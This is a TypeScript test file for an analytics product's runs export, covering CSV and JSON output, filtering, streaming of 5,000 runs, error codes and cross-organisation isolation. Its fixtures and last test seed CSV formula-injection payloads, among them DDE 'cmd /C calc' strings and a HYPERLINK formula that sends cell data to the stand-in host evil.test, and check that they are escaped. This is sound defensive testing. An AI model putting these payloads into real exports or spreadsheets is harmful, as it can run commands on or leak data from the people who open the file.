// The runs export over HTTP: CSV with a header row and RFC 4180 quoting that survives quotes, commas
// and line breaks in prompt text; JSON as one array; filters; a 5,000-run export read through many
// store pages arriving complete; the download headers; and another org's project as a 404.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { insertSpans } from "@promptmetrics/clickhouse";
import type { SpanRow } from "@promptmetrics/runs";
import { openTestStore, signedUp, startApi, type Client, type TestApi, type TestStore } from "./accounts-harness.ts";
import { llmRun, runId } from "./runs-fixtures.ts";

let db: TestStore;
let api: TestApi;
let alice: Client;
let bob: Client;
let pA: string;

const NOW = new Date("2026-11-25T12:00:00Z");
const BULK = 5000;
const tricky: SpanRow[] = [];

before(async () => {
  db = await openTestStore();
  // Small pages, so the export makes many round trips to the store.
  api = await startApi({ store: db.store, now: () => NOW, exportPageSize: 700 });
  const a = await signedUp(api, "alice@example.com");
  alice = a.client;
  pA = a.me.projects[0].id;
  const b = await signedUp(api, "bob@example.com");
  bob = b.client;
  const bulk = Array.from({ length: BULK }, (_, i) =>
    llmRun(pA, {
      start: new Date(Date.UTC(2026, 10, 1) + Math.floor(i / 3) * 60_000),
      model: i % 10 === 0 ? "claude-sonnet-4-5" : "gpt-4o",
      input_text: `question ${i}`,
      output_text: `answer ${i}`,
    }),
  );
  tricky.push(
    llmRun(pA, {
      start: new Date("2026-11-24T10:00:00Z"),
      input_text: 'He said "hi", then left',
      output_text: "line one\nline two",
      tags: ["a,b", 'q"t'],
      user_id: "u,1",
      service_tier: "flex",
      inference_geo: "eu",
      cache_write_tokens: 30,
      cache_write_12h_tokens: 20,
    }),
    llmRun(pA, {
      start: new Date("2026-11-24T10:00:01Z"),
      input_text: "crlf\r\nend,",
      output_text: '""',
      prompt_name: "=cmd|' /C calc'!A0",
    }),
    llmRun(pA, {
      start: new Date("2026-11-24T10:00:02Z"),
      input_text: "émoji 🎉 ünïcode",
      output_text: "",
      cost_usd: null,
      status_code: "error",
      quality_flags: 16,
    }),
  );
  await insertSpans(db.store, { rows: [...bulk, ...tricky, llmRun(b.me.projects[0].id, { input_text: "bob's secret" })] });
});
after(async () => {
  await api.close();
  await db.close();
});

/** RFC 4180: fields split on commas and CRLF, quoted fields may hold both, "" is a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(field);
      field = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += char;
  }
  assert.equal(field, "", "the file ends with CRLF");
  assert.equal(row.length, 0);
  return rows;
}

async function download(client: Client, query: string) {
  const res = await fetch(`${api.url}/api/analytics/export?${query}`, {
    headers: { cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
  });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

const COLUMNS =
  "id,traceId,spanId,startTime,endTime,latencyMs,ttftMs,model,provider,operation,promptName,promptVersion,userId,sessionId,tags,inputTokens,outputTokens,cacheReadTokens,cacheWriteTokens,reasoningTokens,costUsd,status,finishReason,rating,success,feedback,inputPreview,outputPreview,serviceTier,inferenceGeo,cacheWrite1hTokens,cacheWrite12hTokens,qualityFlags,input,output".split(
    ",",
  );

test("CSV: a header row, every run once, and text with quotes, commas and line breaks read back exactly", async () => {
  const reply = await download(alice, `projectId=${pA}&what=runs&format=csv`);
  assert.equal(reply.status, 200, reply.text.slice(0, 300));
  assert.equal(reply.headers.get("content-type"), "text/csv; charset=utf-8");
  assert.equal(reply.headers.get("transfer-encoding"), "chunked", "streamed, not sized up front");
  assert.equal(reply.headers.get("content-disposition"), `attachment; filename="runs-${pA}-start-20261125T120000Z.csv"`);
  const rows = parseCsv(reply.text);
  assert.deepEqual(rows[0], COLUMNS);
  const records = rows.slice(1).map((row) => Object.fromEntries(COLUMNS.map((column, i) => [column, row[i]])));
  assert.equal(records.length, BULK + tricky.length);
  assert.ok(rows.every((row) => row.length === COLUMNS.length));
  assert.equal(new Set(records.map((record) => record.id)).size, BULK + tricky.length, "every run exactly once");
  assert.ok(!reply.text.includes("bob's secret"));

  const byId = new Map(records.map((record) => [record.id, record]));
  const [quotes, crlf, unicode] = tricky.map((row) => byId.get(runId(row))!);
  assert.deepEqual(
    [quotes!.input, quotes!.output, quotes!.tags, quotes!.userId],
    ['He said "hi", then left', "line one\nline two", '["a,b","q\\"t"]', "u,1"],
  );
  // What priced it besides the tokens: the tier, where it ran, the cache writes by lifetime.
  assert.deepEqual(
    [quotes!.serviceTier, quotes!.inferenceGeo, quotes!.cacheWriteTokens, quotes!.cacheWrite1hTokens, quotes!.cacheWrite12hTokens],
    ["flex", "eu", "30", "0", "20"],
  );
  // The quality flags as a JSON list, like the tags.
  assert.deepEqual([quotes!.qualityFlags, unicode!.qualityFlags], ["[]", '["error"]']);
  // A formula comes back behind a leading quote, so a spreadsheet shows it as text (the last test).
  assert.deepEqual([crlf!.input, crlf!.output, crlf!.promptName], ["crlf\r\nend,", '""', "'=cmd|' /C calc'!A0"]);
  assert.deepEqual([unicode!.input, unicode!.costUsd, unicode!.status], ["émoji 🎉 ünïcode", "", "error"]);
  assert.deepEqual(
    [quotes!.costUsd, quotes!.latencyMs, quotes!.startTime, quotes!.rating, quotes!.success, quotes!.feedback],
    ["0.00075", "1000", "2026-11-24T10:00:00.000Z", "", "", ""],
  );
  // Newest first, as the list.
  assert.deepEqual(
    records.slice(0, 3).map((record) => record.id),
    [...tricky].reverse().map(runId),
  );
  assert.equal(byId.get(records[records.length - 1]!.id)!.input, "question 0");
});

test("JSON: one array of the list's items plus the full text, filters applied", async () => {
  const reply = await download(
    alice,
    `projectId=${pA}&what=runs&format=json&model=claude-sonnet-4-5&from=2026-11-01&to=2026-11-02&sort=startTime&order=asc`,
  );
  assert.equal(reply.status, 200, reply.text.slice(0, 300));
  assert.equal(reply.headers.get("content-type"), "application/json; charset=utf-8");
  assert.equal(reply.headers.get("content-disposition"), `attachment; filename="runs-${pA}-20261101T000000Z-20261102T000000Z.json"`);
  const runs = JSON.parse(reply.text) as any[];
  // Runs i ≡ 0 (mod 10) are Claude; three runs a minute from 2026-11-01, so the first day holds runs 0..4319.
  assert.equal(runs.length, 432);
  assert.ok(runs.every((run) => run.model === "claude-sonnet-4-5"));
  assert.deepEqual(
    runs.slice(0, 2).map((run) => run.input),
    ["question 0", "question 10"],
  );
  assert.deepEqual(Object.keys(runs[0]), [...COLUMNS]);
  assert.equal(runs[0].costUsd, 0.00075);
  const empty = await download(alice, `projectId=${pA}&what=runs&format=json&model=none`);
  assert.deepEqual(JSON.parse(empty.text), []);
});

test("a large export streams complete as JSON too", async () => {
  const reply = await download(alice, `projectId=${pA}&what=runs&format=json&sort=cost&order=asc`);
  const runs = JSON.parse(reply.text) as any[];
  assert.equal(runs.length, BULK + tricky.length);
  assert.equal(new Set(runs.map((run) => run.id)).size, runs.length);
  assert.equal(runs[0].costUsd, null, "unpriced runs sort as the cheapest");
});

test("bad exports are 400s naming the field; another org's project is a 404; no caller is a 401", async () => {
  const cases: Array<[string, string]> = [
    [`projectId=${pA}&what=bogus`, "what"],
    [`projectId=${pA}`, "what"],
    [`projectId=${pA}&what=runs&format=xlsx`, "format"],
    [`projectId=${pA}&what=runs&limit=10`, "limit"],
    [`projectId=${pA}&what=runs&from=later`, "from"],
    [`what=runs`, "projectId"],
  ];
  for (const [query, field] of cases) {
    const reply = await download(alice, query);
    assert.equal(reply.status, 400, query);
    assert.equal(JSON.parse(reply.text).error.field, field, query);
  }
  const foreign = await download(bob, `projectId=${pA}&what=runs`);
  assert.equal(foreign.status, 404);
  assert.ok(!foreign.text.includes("question"));
  assert.equal((await download(api.browser(), `projectId=${pA}&what=runs`)).status, 401);
});

test("any analytics table downloads with the same numbers as its JSON route", async () => {
  const query = `projectId=${pA}&from=2026-11-01T00:00:00Z&to=2026-11-26T00:00:00Z`;
  const json = (await alice.get(`/api/analytics/costs?${query}&groupBy=model`)).body;
  const csv = await download(alice, `${query}&groupBy=model&what=costs`);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get("content-disposition") ?? "", /attachment; filename="costs-.*-2026-11-01-2026-11-26\.csv"/);
  const [header, ...lines] = csv.text.trimEnd().split("\r\n");
  const columns = header!.split(",");
  assert.deepEqual(columns.slice(0, 3), ["model", "costUsd", "share"]);
  const byModel = new Map(lines.map((line) => [line.split(",")[0], line.split(",")]));
  for (const group of json.groups) {
    const row = byModel.get(group.key)!;
    assert.equal(Number(row[columns.indexOf("requests")]), group.requests);
    assert.equal(Number(row[columns.indexOf("costUsd")]), group.costUsd);
  }
  assert.equal(lines.length, json.groups.length);

  const users = await download(alice, `${query}&what=users&format=json`);
  assert.equal(users.status, 200);
  const rows = JSON.parse(users.text) as Array<{ kind: string; requests: number }>;
  const total = rows.filter((row) => row.kind === "end user").reduce((sum, row) => sum + row.requests, 0);
  assert.equal(total, (await alice.get(`/api/analytics/overview?${query}`)).body.totals.requests);
  assert.equal((await download(bob, `${query}&what=costs`)).status, 404);
  assert.equal(JSON.parse((await download(alice, `${query}&what=costs&groupBy=colour`)).text).error.field, "groupBy");
});

test("CSV exports open as text in a spreadsheet: a hostile model name or user id gets a leading quote, costs stay numbers", async () => {
  const carol = await signedUp(api, "carol@example.com");
  const project = carol.me.projects[0].id;
  const model = '=HYPERLINK("http://evil.test/?"&A2,"x")';
  const userId = "+cmd|' /C calc'!A0";
  await insertSpans(db.store, {
    rows: [
      llmRun(project, {
        start: new Date("2026-11-24T09:00:00Z"),
        model,
        user_id: userId,
        prompt_name: "@SUM(1+1)",
        cost_usd: "-0.001200000000",
      }),
      llmRun(project, { start: new Date("2026-11-24T09:00:01Z"), user_id: "-2+3", session_id: "\t=1" }),
    ],
  });

  const runs = await download(carol.client, `projectId=${project}&what=runs&format=csv`);
  assert.equal(runs.status, 200, runs.text.slice(0, 300));
  assert.ok(runs.text.includes(`"'=HYPERLINK(""http://evil.test/?""&A2,""x"")"`), "the cell starts with a quote, inside a quoted field");
  const rows = parseCsv(runs.text);
  const records = rows.slice(1).map((row) => Object.fromEntries(COLUMNS.map((column, i) => [column, row[i]])));
  const [hostile, other] = records.sort((a, b) => a.startTime!.localeCompare(b.startTime!));
  assert.deepEqual(
    [hostile!.model, hostile!.userId, hostile!.promptName, hostile!.costUsd],
    [`'${model}`, `'${userId}`, "'@SUM(1+1)", "-0.0012"],
  );
  assert.deepEqual([other!.userId, other!.sessionId, other!.costUsd], ["'-2+3", "'\t=1", "0.00075"]);
  for (const record of records)
    for (const value of Object.values(record)) assert.doesNotMatch(value ?? "", /^[=+@\t\r]|^-(?!\d)/, "no cell starts a formula");

  const query = `projectId=${project}&from=2026-11-01T00:00:00Z&to=2026-11-26T00:00:00Z`;
  const models = await download(carol.client, `${query}&groupBy=model&what=costs`);
  assert.equal(models.status, 200, models.text.slice(0, 300));
  const modelRows = parseCsv(models.text);
  const modelCells = modelRows.slice(1).map((row) => row[0]);
  assert.ok(modelCells.includes(`'${model}`), JSON.stringify(modelCells));
  assert.ok(!modelCells.includes(model));
  const users = await download(carol.client, `${query}&what=users`);
  assert.equal(users.status, 200, users.text.slice(0, 300));
  assert.ok(!/(^|,)\+cmd/m.test(users.text), "no unquoted formula");
  assert.ok(users.text.includes(`"'${userId}"`), users.text);
});
